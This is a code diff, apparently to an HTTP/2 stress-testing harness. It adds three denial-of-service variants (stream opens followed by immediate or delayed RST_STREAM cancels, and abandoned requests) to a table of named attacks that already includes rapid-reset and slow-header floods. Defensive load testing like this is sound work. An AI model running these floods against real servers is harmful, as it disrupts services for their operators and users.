@@ -112,6 +112,36 @@ def rapid_reset(peer):
     floods(peer, "resets", PREFACE + frame(SETTINGS, 0, 0), chunk)
 
 
+def few_resets(peer):
+    """90 streams of a connection that are opened and reset at once, and then the next connection"""
+    block = request(b"/slow/b/64")
+    streams = b"".join(
+        frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
+        + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)) for stream in range(1, 181, 2))
+    floods(peer, "resets", PREFACE + frame(SETTINGS, 0, 0), lambda number: (streams, 90), most=1)
+
+
+def late_resets(peer):
+    """90 streams of a connection that are opened, and reset when they have been begun, and then the next connection"""
+    block = request(b"/slow/b/64")
+    opening = PREFACE + frame(SETTINGS, 0, 0) + b"".join(
+        frame(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in range(1, 181, 2))
+    resets = b"".join(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)) for stream in range(1, 181, 2))
+
+    def chunk(_):
+        time.sleep(0.002)
+        return resets, 90
+
+    floods(peer, "resets", opening, chunk, most=1)
+
+
+def left_requests(peer):
+    """100 requests of a connection, which is left, and then the next connection"""
+    block = request(b"/slow/b/64")
+    streams = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in range(1, 201, 2))
+    floods(peer, "requests", PREFACE + frame(SETTINGS, 0, 0), lambda number: (streams, 100), most=1)
+
+
 def large_heads(peer):
     """20 connections of 100 streams that wait for a slow origin, with heads of 12 KB"""
     block = request(b"/slow/b/64") + b"".join(literal(b"x-large-%d" % n, b"x" * 4000) for n in range(3))
@@ -296,6 +326,9 @@ for name, about in {
 
 ATTACKS = {
     "rapid-reset": rapid_reset,
+    "few-resets": few_resets,
+    "late-resets": late_resets,
+    "left-requests": left_requests,
     "large-heads": large_heads,
     "slow-heads": slow_heads,
     "tls-handshakes": tls_handshakes,
